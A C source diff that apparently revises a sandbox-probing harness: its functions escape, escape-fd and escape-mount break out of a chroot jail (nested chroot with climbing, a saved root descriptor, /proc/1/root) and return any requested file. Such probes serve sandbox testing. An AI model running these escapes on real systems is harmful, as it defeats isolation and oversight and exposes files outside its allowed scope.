@@ -9,7 +9,6 @@
 #include <string.h>
 #include <sys/mount.h>
 #include <sys/socket.h>
-#include <sys/stat.h>
 #include <unistd.h>
 
 enum { DEEPEST = 64, FIRST_LEFT_OPEN = 3, MOST_DESCRIPTORS = 256 };
@@ -23,11 +22,10 @@ static bool climb(void)
 	return chroot(".") == 0;
 }
 
-/* !escape PATH */
+/* !escape PATH : any directory will do, and it need not be made. */
 static void escape(const struct request *request)
 {
-	mkdir("/tmp/deeper", 0755);
-	if (chroot("/tmp/deeper") != 0 || !climb())
+	if (chroot("/tmp") != 0 || !climb())
 		answer_errno("escape");
 	else
 		answer_file("escape", open(word(request, 1), O_RDONLY));
@@ -37,23 +35,22 @@ static void escape(const struct request *request)
 static void escape_by_descriptor(const struct request *request)
 {
 	int old = open("/", O_RDONLY | O_DIRECTORY);
-	mkdir("/tmp/deeper", 0755);
-	if (old < 0 || chroot("/tmp/deeper") != 0 || fchdir(old) != 0 || !climb())
+	if (old < 0 || chdir("/tmp") != 0 || chroot("/tmp") != 0 || fchdir(old) != 0 || !climb())
 		answer_errno("escape-fd");
 	else
 		answer_file("escape-fd", open(word(request, 1), O_RDONLY));
 }
 
-/* !escape-mount PATH : /proc has the root of the first process. */
+/* !escape-mount PATH : /proc has the root of the first process. It may be there already. */
 static void escape_by_mount(const struct request *request)
 {
 	char path[LINE_SIZE + 32];
-	if (mount("proc", "/proc", "proc", 0, NULL) != 0) {
-		answer_errno("escape-mount");
-		return;
-	}
+	int failed = mount("proc", "/proc", "proc", 0, NULL) != 0 ? errno : 0;
 	snprintf(path, sizeof path, "/proc/1/root%s", word(request, 1));
-	answer_file("escape-mount", open(path, O_RDONLY));
+	int file = open(path, O_RDONLY);
+	if (file < 0 && failed != 0)
+		errno = failed;
+	answer_file("escape-mount", file);
 }
 
 /* !root-of PID PATH */
